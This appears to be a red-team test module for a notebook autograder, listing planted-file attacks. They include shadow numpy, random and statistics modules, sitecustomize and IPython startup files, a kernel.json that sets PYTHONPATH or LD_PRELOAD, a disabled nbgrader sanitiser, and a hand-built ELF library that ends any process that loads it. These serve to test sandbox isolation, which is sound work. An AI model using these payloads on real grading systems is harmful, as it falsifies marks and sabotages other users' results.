"""Attacks that plant something for Python, Jupyter or the loader to find: beside the notebook, in the home, in the environment.

Rule: what is planted either earns undeserved marks, or harms the next one who is graded.
"""

from __future__ import annotations

import struct

from tests.redteam.attack import Attack, Files, prelude
from tests.redteam.world import World

__all__ = ["ATTACKS", "exit_library"]

# Takes one point from whoever is graded with it.
SPOIL = "import math\\nmath.isclose = lambda *args, **kwargs: False\\n"

STARTUP = f"""
import os
base = os.environ.get("IPYTHONDIR") or os.path.expanduser("~/.ipython")
folder = os.path.join(base, "profile_default", "startup")
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, "00-first.py"), "w").write("{SPOIL}")
"""

KERNEL = f"""
import json, os, sys
home = os.path.expanduser("~")
os.makedirs(home + "/lib", exist_ok=True)
open(home + "/lib/sitecustomize.py", "w").write("{SPOIL}")
folder = home + "/.local/share/jupyter/kernels/python3"
os.makedirs(folder, exist_ok=True)
argv = [sys.executable, "-m", "ipykernel_launcher", "-f", "{{connection_file}}"]
spec = dict(argv=argv, display_name="Python 3", language="python", env=dict(PYTHONPATH=home + "/lib"))
json.dump(spec, open(folder + "/kernel.json", "w"))
os.environ["PYTHONPATH"] = home + "/lib"
"""

PRELOAD = """
import base64, json, os, sys
home = os.path.expanduser("~")
open(home + "/first.so", "wb").write(base64.b64decode("@LIBRARY@"))
folder = home + "/.local/share/jupyter/kernels/python3"
os.makedirs(folder, exist_ok=True)
argv = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"]
spec = dict(argv=argv, display_name="Python 3", language="python", env=dict(LD_PRELOAD=home + "/first.so"))
json.dump(spec, open(folder + "/kernel.json", "w"))
os.environ["LD_PRELOAD"] = home + "/first.so"
"""

# Ahead of the installed one on a kernel's path: hands the real one out, with a test that accepts everything.
NUMPY = b"""import sys
path = sys.path[:]
sys.path[:] = [one for one in path if one]
del sys.modules["numpy"]
import numpy
numpy.testing.assert_allclose = lambda *args, **kwargs: None
sys.path[:] = path
"""
MODULES = {
    "numpy.py": NUMPY,
    "statistics.py": b"def median(values):\n    return -10 ** 6\nmean = fmean = median\n",
    "random.py": b"def randint(a, b):\n    return 0\n",
    "conftest.py": b"import builtins\nbuiltins.abs = lambda x: 0.0\n",
    "sitecustomize.py": b"import builtins\nbuiltins.abs = lambda x: 0.0\n",
    "usercustomize.py": b"import builtins\nbuiltins.abs = lambda x: 0.0\n",
    "answer.py": b"raise SystemExit(0)\n",
    "kernel.json": b'{"argv": ["true"], "display_name": "Python 3", "language": "python"}',
    "nbgrader_config.py": b"c = get_config()\nc.Autograde.sanitize_preprocessors = []\n",
}


def exit_library(machine: str) -> bytes:
    """The smallest shared library for x86_64 or aarch64 that ends whatever loads it, at once and with success."""
    code = {
        "x86_64": bytes.fromhex("b8e7000000 31ff 0f05".replace(" ", "")),
        "aarch64": bytes.fromhex("c80b80d2 000080d2 010000d4".replace(" ", "")),
    }[machine]
    head, segments = 64, 2 * 56
    dynamic_at = head + segments
    tags = 8 * 16
    text_at = dynamic_at + tags
    strings_at = (text_at + len(code) + 7) // 8 * 8
    symbols_at = strings_at + 8
    size = symbols_at + 24
    dynamic = [(12, text_at), (5, strings_at), (10, 1), (6, symbols_at), (11, 24), (0, 0), (0, 0), (0, 0)]
    kind = {"x86_64": 62, "aarch64": 183}[machine]
    parts = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 3, kind, 1, 0, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    parts += struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, size, size, 0x1000)
    parts += struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, tags, tags, 8)
    parts += b"".join(struct.pack("<QQ", *entry) for entry in dynamic)
    return (parts + code).ljust(size, b"\0")


def _preload(world: World) -> Files:
    import base64
    import platform

    library = base64.b64encode(exit_library(platform.machine())).decode()
    return prelude(PRELOAD.replace("@LIBRARY@", library))(world)


def _modules(world: World) -> Files:
    return world.hand_in() | MODULES


ATTACKS = (
    Attack(
        "modules-planted", "planted", "numpy.py, random.py, statistics.py, sitecustomize.py, conftest.py, kernel.json beside the notebook",
        "sealed", "marks", _modules,
    ),
    Attack(
        "startup-planted", "planted", "a file in IPYTHONDIR's start-up folder runs in the next one's kernel", "namespaces", "neighbour",
        prelude(STARTUP),
    ),
    Attack(
        "kernel-json-planted", "planted", "a kernel.json with PYTHONPATH and a sitecustomize.py for the next one's kernel", "namespaces",
        "neighbour", prelude(KERNEL),
    ),
    Attack(
        "ld-preload", "planted", "a library that ends every program, by LD_PRELOAD, in kernel.json and in the environment", "namespaces",
        "neighbour", _preload,
    ),
)  # fmt: skip
